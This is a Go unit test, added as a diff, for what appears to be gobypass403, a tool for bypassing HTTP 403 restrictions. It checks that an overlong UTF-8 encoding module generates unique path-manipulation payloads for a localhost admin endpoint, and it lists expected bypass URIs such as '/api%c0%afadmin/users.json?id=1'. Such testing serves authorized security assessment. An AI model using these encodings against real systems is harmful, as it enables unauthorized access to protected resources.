@@ -0,0 +1,58 @@
+package tests
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/slicingmelon/gobypass403/core/engine/payload"
+)
+
+func TestOverlongEncodePayloads(t *testing.T) {
+	targetURL := "http://localhost/api/admin/users.json?id=1"
+	moduleName := "overlong_encode"
+
+	if err := payload.InitializePayloadsDir(); err != nil {
+		t.Fatalf("Failed to initialize payloads dir: %v", err)
+	}
+
+	pg := payload.NewPayloadGenerator(payload.PayloadGeneratorOptions{
+		TargetURL:    targetURL,
+		BypassModule: moduleName,
+	})
+	generatedPayloads := pg.GenerateOverlongEncodePayloads(targetURL, moduleName)
+	if len(generatedPayloads) == 0 {
+		t.Fatalf("No payloads were generated for %s", moduleName)
+	}
+
+	seen := make(map[string]struct{})
+	for _, p := range generatedPayloads {
+		if _, ok := seen[p.RawURI]; ok {
+			t.Errorf("Duplicate RawURI generated: %q", p.RawURI)
+		}
+		seen[p.RawURI] = struct{}{}
+
+		if !strings.HasPrefix(p.RawURI, "/") || !strings.HasSuffix(p.RawURI, "?id=1") {
+			t.Errorf("Leading slash and query must be preserved, got %q", p.RawURI)
+		}
+		if p.PayloadToken == "" {
+			t.Errorf("Missing payload token for %q", p.RawURI)
+		}
+	}
+
+	expected := []string{
+		"/api%c0%afadmin/users.json?id=1",
+		"/api/admin%e0%80%afusers.json?id=1",
+		"/api%c1%9cadmin%c1%9cusers.json?id=1",
+		"/api\\admin/users.json?id=1",
+		"/api/admin/users%c0%aejson?id=1",
+		"/api/admin/users%f0%80%80%aejson?id=1",
+		"/%c0%afapi/admin/users.json?id=1",
+	}
+	for _, uri := range expected {
+		if _, ok := seen[uri]; !ok {
+			t.Errorf("Expected RawURI %q was not generated", uri)
+		}
+	}
+
+	t.Logf("Generated %d unique payloads for %s", len(generatedPayloads), moduleName)
+}